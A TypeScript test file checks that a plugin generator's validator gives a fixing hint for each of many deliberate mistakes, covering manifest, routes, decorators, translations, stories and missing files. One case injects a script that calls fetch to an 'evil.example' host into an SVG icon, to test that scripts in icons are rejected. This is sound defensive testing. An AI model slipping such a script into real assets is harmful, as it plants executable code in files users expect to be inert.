/** Makes each mistake in a freshly generated plugin: the author gets a sentence that says how to correct it. */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describeMistakes, type Mistakes } from './mistakes.fixture';

const GROUPS: Mistakes = {
  'in the manifest': [
    [
      'an id that is not the folder’s',
      (tree) => tree.edit('plugin.ts', "id: 'voucher',", "id: 'vouchers',"),
      /plugin\.ts: the id is "vouchers", the folder is voucher\. Write id: 'voucher', or rename the folder\./,
    ],
    [
      'a display type of another plugin',
      (tree) => tree.edit('plugin.ts', 'DISPLAY_TYPE = 100', 'DISPLAY_TYPE = 6'),
      /deposit card view type 6 \(current design\) is claimed by pix and by vouchers: give it another number; "npm run routes"/,
    ],
    [
      'a path of another plugin',
      (tree) => tree.edit('plugin.ts', "path: 'voucher/code'", "path: 'redirect/pix'"),
      /path \/deposit\/redirect\/pix .* is claimed by pix and by vouchers: change the path of the route/,
    ],
    [
      'a data key of another plugin',
      (tree) => tree.edit('plugin.ts', "dataKeys: ['voucher']", "dataKeys: ['pix']"),
      /page for data pix .* is claimed by pix and by vouchers: a reply can lead to one page only/,
    ],
    [
      'an entry that names no route',
      (tree) => tree.edit('plugin.ts', /(cardViewTypes: \[DISPLAY_TYPE\],\s+route: )'base'/, "$1'bass'"),
      /an entry names the deposit route bass, missing in the current design\. Its deposit routes are: base, code\./,
    ],
    [
      'a back that leads nowhere',
      (tree) => tree.edit('plugin.ts', "back: 'origin'", "back: '/deposit/nowhere'"),
      /back of the route base is \/deposit\/nowhere, which no page has\. Write 'origin' for the list\./,
    ],
    [
      'a page that opens without a transaction',
      (tree) => tree.edit('plugin.ts', "guard: 'transaction'", "guard: 'none'"),
      /the route code opens without a selection\. Write guard: 'method' for a form/,
    ],
    [
      'a guard misspelt',
      (tree) => tree.edit('plugin.ts', "guard: 'method'", "guard: 'methd'"),
      /the guard of the route base is methd\. Write guard: 'method' for a form, 'transaction' for what follows a create\./,
    ],
  ],
  'in the names of routes': [
    [
      'an id of two routes',
      (tree) => tree.edit('plugin.ts', "id: 'code'", "id: 'base'"),
      /two deposit routes have the id base\. Give one of them another id\./,
    ],
    [
      'no guard',
      (tree) => tree.edit('plugin.ts', "guard: 'transaction',", ''),
      /the guard of the route base is missing\. Write guard/,
    ],
  ],
  'in decorators and exports': [
    [
      'a parameter without @inject',
      (tree) => tree.edit('stores/code-store.ts', '@inject(Navigation) ', ''),
      /Parameter 2 of the constructor of CodeStore has no @inject\(…\)\. Write which service it gets\./,
    ],
    [
      'screens without a default export',
      (tree) => tree.edit('screens/index.ts', 'export default screens;', 'export { screens };'),
      /screens\/index\.ts has no screens as its default export: end it with "export default screens;"\./,
    ],
  ],
  'in decorators alone': [
    [
      'a class without @injectable',
      (tree) => tree.edit('stores/code-store.ts', '@injectable()', ''),
      /^CodeStore has no @injectable\(\)\. Write it above the class\./,
    ],
  ],
  'of grammar': [
    [
      'a comma forgotten',
      (tree) => tree.edit('plugin.ts', "id: 'voucher',", "id: 'voucher'"),
      /plugin\.ts can't be loaded: .*Expected `,`/,
    ],
  ],
  'in screens and stories': [
    [
      'a screen name misspelt',
      (tree) => tree.edit('plugin.ts', "screen: 'code'", "screen: 'cdoe'"),
      /a route shows the screen "cdoe", which plugins\/voucher\/screens\/index\.ts does not export\. Did you mean code\?/,
    ],
    [
      'a screen that no route shows',
      () => {},
      /screens\/index\.ts exports the screen code, which no route of plugin\.ts shows\. Add a route, or take it out\./,
    ],
    [
      'an undeclared screen',
      () => {},
      /states\.fixture\.ts does not declare the screen cdoe\. Add its kind, e\.g\. cdoe: \{ kind: 'form' \}\./,
    ],
    [
      'a missing story',
      (tree) => tree.edit('screens/current/base-screen.stories.tsx', 'export const Offline', 'export const Away'),
      /current\/base-screen\.stories\.tsx has no story Offline\. Add one whose name begins so, or give a reason in states/,
    ],
    [
      'a missing legacy story file',
      (tree) => tree.remove('screens/legacy/base-screen.stories.tsx'),
      /legacy\/base-screen\.stories\.tsx is missing: .* with inLegacy\(…\) of the current ones\./,
    ],
    [
      'no whole flow to play',
      (tree) => tree.edit('screens/legacy/whole-flow.stories.tsx', 'ToPlay', 'Playing'),
      /legacy\/whole-flow\.stories\.tsx has no story ToPlay with the title 'Flows\/voucher\/legacy\/whole flow'/,
    ],
  ],
  'in stores and messages': [
    [
      'a store that throws',
      (tree) =>
        tree.edit(
          'stores/code-store.ts',
          'makeAutoObservable(this',
          "throw new Error('no clock yet');\n    makeAutoObservable(this",
        ),
      /The store CodeStore throws when it is made: .*no clock yet.*\(plugins\/voucher\/stores\/code-store\.ts:\d+\)/,
    ],
    [
      'a message that a language lacks',
      (tree) => tree.edit('locales/te.json', /\s+"timer": .*/, ''),
      /locales\/te\.json: timer is missing, but English has it\. Translate it\./,
    ],
    [
      'a text left in English',
      (tree) => tree.edit('locales/ru.json', '"title": "', '"title": "Pay '),
      /ru\.json: title has “Pay”, which is not Cyrillic\. Translate it; a name that no language translates stands in NAMES/,
    ],
    [
      'a language that is missing',
      (tree) => tree.remove('locales/mr.json'),
      /locales\/mr\.json: missing\. Every text is there in nine languages/,
    ],
    [
      'a key misspelt',
      (tree) => tree.edit('screens/base-screen.tsx', 'voucher:submit', 'voucher:sumbit'),
      /base-screen\.tsx:\d+: there is no message voucher:sumbit\. Did you mean voucher:submit\?/,
    ],
    [
      'a message that nobody shows',
      () => {},
      /locales: submit is not used\. Show it, or take it out of the nine files\./,
    ],
    [
      'an import of another plugin',
      (tree) => tree.edit('stores/code-store.ts', /^/, "import '../../pix/br-code/br-code';\n"),
      /stores\/code-store\.ts imports plugins\/pix\/br-code\/br-code\.ts\. Rule plugin-imports: a plugin may import families/,
    ],
  ],
  'in the provider': [
    [
      'a reply that breaks the schema',
      (tree) => tree.edit('simulator.ts', 'code: codeFor(id), expiresAt', "code: codeFor(id), expiresAt: 'soon'"),
      /the reply to BANKING:deposit-create of voucher does not fit reply-data\.ts: data\.voucher: expiresAt/,
    ],
    [
      'a method of a type that is not the plugin’s',
      (tree) => tree.edit('fixtures.ts', 'DISPLAY_TYPE = 100', 'DISPLAY_TYPE = 101'),
      /fixtures\.ts: voucher has display type 101, which no deposit entry of plugin\.ts claims \(100\)/,
    ],
    [
      'a data key without a schema',
      (tree) => tree.edit('plugin.ts', "dataKeys: ['voucher']", "dataKeys: ['voucher', 'vuocher']"),
      /a page is opened by data\.vuocher, which has no schema\. Add vuocher to replyData in plugins\/voucher\/reply-data\.ts/,
    ],
    [
      'an icon that is not there',
      (tree) => tree.edit('fixtures.ts', "iconIds: ['voucher']", "iconIds: ['vouchr']"),
      /voucher has the icon vouchr, but there is no plugins\/voucher\/icons\/vouchr\.svg\./,
    ],
    [
      'an icon that runs',
      (tree) => tree.edit('icons/voucher.svg', '</svg>', '<script>fetch("https://evil.example")</script></svg>'),
      /plugins\/voucher\/icons\/voucher\.svg has a <script>: an icon may only be drawn\. Take it out\./,
    ],
    [
      'a store that flow.ts forgets',
      (tree) => {
        tree.edit('stores/code-store.ts', /^/, "import { CodeBook } from './code-book';\n");
        tree.edit(
          'stores/code-store.ts',
          'constructor(',
          'constructor(\n    @inject(CodeBook) readonly book: CodeBook,',
        );
        const source = "import { injectable } from 'tsyringe';\n\n@injectable()\nexport class CodeBook {}\n";
        writeFileSync(join(tree.root, 'plugins/voucher/stores/code-book.ts'), source);
      },
      /CodeStore asks for CodeBook, which nobody registers\. Add scope\.registerSingleton\(CodeBook\) to plugins\/voucher\/flow/,
    ],
    [
      'a store without reset',
      (tree) => tree.edit('stores/code-store.ts', 'reset(): void {}', ''),
      /The store CodeStore has no reset\(\)\. Add one: it gives back what the store was made with\./,
    ],
    ['no README', (tree) => tree.remove('README.md'), /README\.md is missing: say what the family is\./],
  ],
  'with files missing': [
    [
      'no fixtures',
      (tree) => {
        tree.remove('fixtures.ts');
        tree.remove('simulator.ts');
      },
      /plugins\/voucher\/fixtures\.ts is missing: it exports methods, so that there is something to pay with/,
    ],
    ['no simulator', () => {}, /plugins\/voucher\/simulator\.ts is missing: it exports simulator, the provider/],
    [
      'no legacy screens in the manifest',
      (tree) => tree.edit('plugin.ts', "() => import('./screens')", "{ current: () => import('./screens') }"),
      /route base has no screens for the legacy design\. Write screens: \(\) => import\('\.\/screens'\)/,
    ],
    ['no states', (tree) => tree.remove('states.fixture.ts'), /states\.fixture\.ts is missing: it says which states/],
    ['no flow', (tree) => tree.remove('flow.ts'), /flow\.ts is missing: it registers the plugin's stores/],
  ],
};

describeMistakes(GROUPS);
